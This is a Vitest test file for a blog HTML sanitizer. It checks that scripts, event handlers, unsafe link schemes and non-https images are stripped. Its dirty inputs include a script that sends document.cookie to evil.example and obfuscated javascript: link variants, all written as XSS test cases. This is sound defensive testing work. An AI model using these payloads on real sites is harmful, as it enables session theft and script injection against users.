import { describe, expect, it } from "vitest";
import { sanitizeBlogHtml } from "./sanitize-blog-html";

/** An article fragment, and what the sanitizer keeps of it. */
const REWRITES = [
  {
    title: "removes scripts, styles and iframes along with their content",
    dirty:
      '<p>Hello<script>fetch("https://evil.example/?c="+document.cookie)</script>' +
      '<style>body{display:none}</style><iframe src="https://evil.example"></iframe> reader</p>',
    clean: "<p>Hello reader</p>",
  },
  {
    title: "strips event handlers, inline styles and classes",
    dirty:
      '<p onclick="steal()" style="color:red" class="x">Text</p>' +
      '<img src="https://cdn.kaizenfusion.in/a.png" alt="Plant" onerror="steal()" style="x">',
    clean: '<p>Text</p><img src="https://cdn.kaizenfusion.in/a.png" alt="Plant" />',
  },
  {
    title: "opens external links in a new tab without leaking the opener or referrer",
    dirty: '<a href="https://example.com/report" rel="opener" target="_self">r</a>',
    clean: '<a href="https://example.com/report" target="_blank" rel="noopener noreferrer">r</a>',
  },
  {
    title: "keeps site paths and mailto links in the same tab",
    dirty:
      '<a href="/estimate-builder" target="_blank">Estimate</a> <a href="mailto:hello@kaizenfusion.in">Mail</a>',
    clean:
      '<a href="/estimate-builder">Estimate</a> <a href="mailto:hello@kaizenfusion.in">Mail</a>',
  },
  {
    title: "removes images that are not served over https",
    dirty:
      '<img src="http://cdn.example/a.png" alt="a"><img src="data:image/svg+xml;base64,PHN2Zz4=" alt="b">' +
      '<img src="javascript:alert(1)" alt="c"><img alt="d">',
    clean: "",
  },
  {
    title: "keeps numeric image sizes and drops anything else",
    dirty: '<img src="https://cdn.example/a.png" alt="" width="640" height="100%">',
    clean: '<img src="https://cdn.example/a.png" alt="" width="640" />',
  },
  {
    title: "unwraps tags it does not allow but keeps their text",
    dirty: "<h1>Title</h1><div><span>Body</span></div><form>Form</form>",
    clean: "TitleBodyForm",
  },
  {
    title: "escapes text that would otherwise become markup",
    dirty: "<p>1 < 2 &amp; <notatag onclick=x>3</notatag></p>",
    clean: "<p>1 &lt; 2 &amp; 3</p>",
  },
];

describe("sanitizeBlogHtml", () => {
  it("keeps the article markup it allows", () => {
    const html =
      "<h2>Plan</h2><h3>Scope</h3><h4>Risks</h4><p><strong>Fix</strong> the <em>process</em> first.</p>" +
      "<ul><li>One</li></ul><ol><li>Two</li></ol><blockquote>Quote</blockquote>" +
      "<pre><code>SELECT 1;</code></pre>";

    expect(sanitizeBlogHtml(html)).toBe(html);
  });

  it.each([
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example/login">x</a>',
  ])("drops a dangerous link target: %s", (dirty) => {
    expect(sanitizeBlogHtml(dirty)).toBe("<a>x</a>");
  });

  for (const { title, dirty, clean } of REWRITES) {
    it(title, () => {
      expect(sanitizeBlogHtml(dirty)).toBe(clean);
    });
  }
});
